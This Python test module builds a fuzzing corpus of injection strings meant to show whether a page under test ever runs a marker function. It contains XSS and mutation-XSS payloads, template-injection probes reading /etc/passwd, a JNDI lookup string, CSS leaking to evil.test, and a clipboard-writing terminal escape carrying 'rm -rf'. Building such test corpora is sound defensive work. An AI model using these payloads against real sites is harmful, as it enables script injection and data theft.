"""Text that wants to be more than text: markup, addresses, templates, styles, what a terminal or an eye obeys.

Every item calls `pwned(…)` where it can call anything: the page under test says whether it ever ran.
"""

import html
from collections.abc import Iterator
from urllib.parse import quote

RUN = "pwned(1)"
BASE = f"<img src=x onerror={RUN}>"

TAGS = (
    "img", "svg", "video", "audio", "body", "input", "details", "iframe", "object", "embed", "math",
    "marquee", "select", "textarea", "button", "a", "form", "style", "link", "script", "template", "p", "x-y",
    "log-pane",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
    "onpointerenter", "onbeforetoggle",
)  # fmt: skip
CLOSERS = (
    "</script>", "</title>", "</textarea>", "</style>", "</template>", "</noscript>", "</pre>", "</select>",
    "</svg>", "</math>", "</dialog>", "</a>", "</span></p></section>", "-->", "--!>", "]]>", "</xmp>",
    "</table>",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:",
    "java\x00script:", "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A&#x61vascript:",
    "javascript&#58;", "jav&Tab;ascript:", "javascript://%0a", "view-source:javascript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=#", "vbscript:", "blob:javascript:",
    "feed:javascript:", "//evil.test/", "\\\\evil.test\\", "/\\evil.test/", "http:evil.test",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{progresso}% · {cliente}", "{nome} · {n}", "$& $' $` $1", "%s %d %n",
    "{0.__class__}", "${jndi:ldap://x}", "`${pwned(1)}`", "';pwned(1);//", '";pwned(1);//', "\\';pwned(1);//",
    "</p><!--", "<!--#exec cmd=x-->", "(?:a+)+$",
)  # fmt: skip
STYLES = (
    "};background:url(javascript:pwned(1))", "x:expression(pwned(1))", "@import 'http://evil.test/x.css';",
    "</style><style>*{x:", "width:100vw;height:100vh;position:fixed;inset:0;z-index:9",
    "--x:url(//evil.test)", "\\65 xpression(pwned(1))", "{}*{background:url(//evil.test/?",
    "content:attr(onerror)", "behavior:url(x.htc)",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mvermelho\x1b[0m", "\x1b[1;97;40mclaro", "\x1b[38;5;9mcor\x1b[m", "\x1b[2J\x1b[H", "\x1b[?1049h",
    "\x1b[8mescondido", f"\x1b]8;;javascript:{RUN}\x07clique\x1b]8;;\x07",
    "\x1b]8;;http://evil.test\x1b\\aqui\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJm\x07", "\x1b]0;título\x07",
    "\x1b]1337;File=:AAAA\x07", "\x1bPq#0;2;0;0;0\x1b\\", "\x9b31mC1", "\x9d52;c;eA==\x9c", "\x1b[31",
    "\x1b[", "\x1b", "a\rb", "abc\x08\x08\x08xyz", "\x1b[A\x1b[2Kapagada", f"\x1b[31m{BASE}\x1b[0m",
    f"<im\x1b[0mg src=x onerror={RUN}>",
)  # fmt: skip
INVISIBLE = (
    *"\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\xad\u180e\u2028\u2029",
    "\U000e0041", "\ufff9", "\u034f", "\u3164", "\u115f",
)  # fmt: skip
BIDI = (
    "\u202eexe.pdf", "fatura\u202efdp.exe", "\u2067abc\u2066def\u2069", "مرحبا <b>x</b>", f"שלום {BASE}",
    "Z̸̢̛a̴l̵g̶o̷", "\ud83d", "a\udc00b", f"\ud800{BASE}\udfff", "👩‍👩‍👧‍👦 família", "ﷺ" * 20,
    "𝕁𝕊 ＜script＞pwned(1)＜/script＞",
)  # fmt: skip
MUTATION = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=pwned(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(1)>",
    "<svg><![CDATA[><img xlink:href=\"]]><img src=x onerror=pwned(1)>\">",
    "<listing>&lt;img onerror=pwned(1) src=x&gt;</listing>",
    "<select><noembed></select><script>pwned(1)</script>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='pwned(1)'/>#x\"/>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:pwned(1) /><a id=x><text>x</text></a>",
    "<template shadowrootmode=open><img src=x onerror=pwned(1)></template>",
    "<table background=javascript:pwned(1)><td><b><i></b></table>", "<base href=//evil.test/><a href=x>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned(1)">',
    "<link rel=stylesheet href=//evil.test/x.css>",
    '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>', "<object data=javascript:pwned(1)>",
    "<isindex type=image src=1 onerror=pwned(1)>", "<a id=defaultView name=ownerDocument>",
    "<form id=documentElement><input name=dataset>",
)  # fmt: skip


def _encoded() -> Iterator[str]:
    """One and the same, however it may be written."""
    yield from (
        BASE,
        BASE.upper(),
        html.escape(BASE),
        html.escape(html.escape(BASE)),
        quote(BASE),
        quote(quote(BASE)),
    )
    yield "".join(f"&#{ord(c)};" for c in BASE)
    yield "".join(f"&#x{ord(c):x}" for c in BASE)
    yield "".join(f"\\u{ord(c):04x}" for c in BASE)
    yield "".join(f"\\x{ord(c):02x}" for c in BASE)
    yield "+ADw-img src=x onerror=pwned(1)+AD4-"
    for gap in ("/", "\n", "\t", "\x0c", "\r", "\x00", "//", "\x0b"):
        yield f"<img{gap}src=x{gap}onerror={RUN}>"
    for broken in ("<<", "< ", "<\x00", "<!", "<?", "</", "%3C", "\xbc", "＜", "&lt", "&LT;"):
        yield broken + BASE[1:]
    for string in (
        f'"{RUN}"',
        f"'{RUN}'",
        f"`{RUN}`",
        "pwned&lpar;1&rpar;",
        "pwned`1`",
        "top['pw'+'ned'](1)",
    ):
        yield f"<svg onload={string}>"


def _all() -> Iterator[str]:
    yield from (
        f"<{tag} {event}={RUN} src=x href=x autofocus open tabindex=0>x" for tag in TAGS for event in EVENTS
    )
    yield from _encoded()
    for mark in ('"', "'", "`", '\\"', "&quot;", ""):
        for after in (
            f"><svg onload={RUN}>",
            f" autofocus onfocus={RUN} x=",
            f" style=animation-name:x onanimationstart={RUN} ",
            "/>",
        ):
            yield mark + after
    yield from (f"{closer}<script>{RUN}</script>" for closer in CLOSERS)
    yield from (f"{closer}{BASE}" for closer in CLOSERS)
    yield from (f"{scheme}{RUN}" for scheme in SCHEMES)
    yield from (f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES[:12])
    yield from (*TEMPLATES, *STYLES, *TERMINAL, *BIDI, *MUTATION)
    yield from (f"ant{one}es <b>{one}depois" for one in INVISIBLE)
    yield from (
        f"<{chr(code)}img src=x{chr(code)}onerror={RUN}>" for code in (*range(0x20), *range(0x7F, 0xA0))
    )
    yield from ("A" * 2**20, "<b>" * 2_000, "é" * 5_000, f"{'x' * 4_090}{BASE}", f"{' ' * 300}{BASE}")


CORPUS = tuple(dict.fromkeys(_all()))
NAMES = tuple(
    dict.fromkeys(one.strip() for one in CORPUS[::11] if 0 < len(one.strip()) <= 200)
)  # of a company or a person
SHORT = tuple(
    one
    for one in (BASE, '"><svg onload=pwned(1)>', "'-pwned(1)-'", *TEMPLATES, "</title><b>", "\u202eexe")
    if len(one) <= 40
)
